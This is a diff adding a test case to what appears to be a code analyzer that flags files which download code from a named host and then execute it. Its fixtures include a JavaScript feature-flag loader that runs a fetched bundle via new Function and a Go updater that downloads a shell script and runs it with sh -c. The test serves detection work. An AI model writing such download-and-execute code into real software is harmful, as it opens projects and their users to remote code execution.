@@ -1308,3 +1308,24 @@ TEST_CASE("code reading the whole environment in a file that sends HTTP requests
                     "\tc.Env = os.Environ()\n\t_ = c.Run()\n\t_, _ = http.Get(\"https://api.x.example.com/v1\")\n}\n")));
   CHECK_FALSE(marked(shipped_analyzer()->analyze_write("settings.py", "import os\nCONFIG = dict(os.environ)\n")));
 }
+
+TEST_CASE("code running a name as code or a shell script in a file that downloads from a named host is marked") {
+  auto marked = [](const Facts& facts) {
+    return std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "runner_with_network"; });
+  };
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "src/featureFlags.js",
+      "const FLAGS_URL = 'https://flags.x.example.com/v1/bundle.js';\nasync function loadRules() {\n  const res = await fetch(FLAGS_URL);\n"
+      "  return res.text();\n}\nexport async function getFlags(user) {\n  const src = await loadRules();\n"
+      "  return new Function('user', 'process', src)(user, process);\n}\n")));
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "internal/updater/updater.go",
+      "package updater\n\nconst hookURL = \"https://releases.x.example.com/post-update.sh\"\n\nfunc (u *U) hook() ([]byte, error) {\n"
+      "\treq, _ := http.NewRequest(\"GET\", hookURL, nil)\n\tresp, _ := u.Client.Do(req)\n\treturn io.ReadAll(resp.Body)\n}\n\n"
+      "func (u *U) Run() error {\n\tscript, _ := u.hook()\n\treturn exec.Command(\"sh\", \"-c\", string(script)).Run()\n}\n")));
+  // A literal program, or no download named in the file, is not it.
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
+      "src/calc.js", "export const two = new Function('return 1 + 1');\nexport async function rates() { return (await fetch('https://api.x.example.com/rates')).json(); }\n")));
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
+      "tools/sh.go", "package tools\n\nfunc Run(script string) error { return exec.Command(\"sh\", \"-c\", script).Run() }\n")));
+}
